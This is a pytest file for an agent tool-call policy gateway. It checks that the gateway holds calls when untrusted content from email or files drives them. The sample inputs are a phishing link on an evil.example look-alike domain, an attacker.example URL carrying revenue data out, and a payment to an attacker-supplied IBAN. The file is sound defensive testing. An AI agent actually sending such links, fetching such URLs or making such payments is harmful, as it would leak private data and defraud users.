"""The worked examples of docs/policy.md ("The model: legs, memory, holds"), decided as written there:
the `controlled` preset with the organisation's domains and URL allowlist, tools as real suites
declare them, and the session's memory as the gateway passes it to `decide()`."""

from __future__ import annotations

from typing import Any

import pytest

from policy import CallState, CompiledPolicy, Leg, load_preset

from .conftest import call, tool

P, U, E = Leg.P, Leg.U, Leg.E
MAIL = "workspace__get_unread_emails at 10:02:11 UTC"
FILE = "workspace__get_file at 10:05:00 UTC"
SCHEMAS: dict[str, dict[str, Any]] = {
    "send_email": {"recipients": {"type": "array", "items": {"type": "string"}}, "subject": {"type": "string"},
                   "body": {"type": "string"}},
    "get_webpage": {"url": {"type": "string"}},
    "send_money": {"recipient": {"type": "string"}, "amount": {"type": "number"}, "subject": {"type": "string"}},
    "get_day_calendar_events": {"day": {"type": "string", "format": "date"}},
    "search_files": {"query": {"type": "string"}},
    "get_file": {"file_id": {"type": "string"}},
}


@pytest.fixture(scope="module")
def policy() -> CompiledPolicy:
    doc = load_preset("controlled").model.model_dump(mode="json", exclude_unset=True)
    doc["conditions"] = {**doc.get("conditions", {}), "org_domains": ["bluesparrow.example"],
                         "url_allowlist": ["*.bluesparrow.example"]}
    return CompiledPolicy.from_dict(doc)


def decide(policy: CompiledPolicy, upstream: str, name: str, args: dict[str, Any], st: CallState) -> Any:
    return policy.decide(call(upstream, name, args), policy.profile(upstream, tool(name, SCHEMAS[name])), st)


def test_a_phishing_link_to_a_colleague(policy: CompiledPolicy) -> None:
    link = "https://sso-bluesparrow.evil.example/reset"
    st = CallState(frozenset({P, U}), True, None, tainted={"host:sso-bluesparrow.evil.example": MAIL})
    mail = {"recipients": ["alice@bluesparrow.example"], "subject": "Password", "body": f"Please log in at {link}"}
    d = decide(policy, "workspace", "send_email", mail, st)
    assert d.effect == "hold" and "provenance.untrusted_value" in d.rule_ids and not d.trifecta
    assert f"argument 'body' carries the host '{link}', which arrived in untrusted content returned by {MAIL}" in (
        d.reasons)
    clean = decide(policy, "workspace", "send_email", {**mail, "body": "Q3 review at 3pm"}, st)
    assert "provenance.untrusted_value" not in clean.rule_ids  # held, if at all, by the write default only


def test_an_exfiltration_by_url(policy: CompiledPolicy) -> None:
    url = "https://attacker.example/c?d=revenue-4.2M"
    st = CallState(frozenset({P, U}), True, None, tainted={"host:attacker.example": FILE},
                   leg_sources={"P": FILE, "U": FILE})
    d = decide(policy, "slack", "get_webpage", {"url": url}, st)  # an upstream named slack changes nothing
    assert d.effect == "hold" and d.trifecta
    assert {"trifecta.hold", "provenance.untrusted_value"} <= set(d.rule_ids)
    assert (f"this call can send data out (E), and the session holds private data (P, from {FILE}) and "
            f"untrusted input (U, from {FILE}): the lethal trifecta") in d.reasons


def test_a_payment_to_the_attackers_account(policy: CompiledPolicy) -> None:
    st = CallState(frozenset({P, U}), True, None,
                   tainted={"iban:GB33BUKB20201555555555": "banking__get_most_recent_transactions at 09:00:00 UTC"})
    d = decide(policy, "banking", "send_money",
               {"recipient": "GB33BUKB20201555555555", "amount": 950, "subject": "refund"}, st)
    assert d.effect == "hold" and d.category == "financial_transaction_any"
    assert {"approval_required:financial_transaction_any", "provenance.untrusted_value"} <= set(d.rule_ids)


def test_a_benign_read_only_task_needs_no_approval(policy: CompiledPolicy) -> None:
    st = CallState(frozenset(), True, None)
    for name, args in (("get_day_calendar_events", {"day": "2026-12-08"}), ("search_files", {"query": "board"}),
                       ("get_file", {"file_id": "f-12"})):
        d = decide(policy, "workspace", name, args, st)
        assert (name, d.effect, d.trifecta) == (name, "allow", False)
        st = CallState(d.legs_after, True, None)
    assert st.session_legs == {P, U}  # private and untrusted, and no exit: nothing to hold
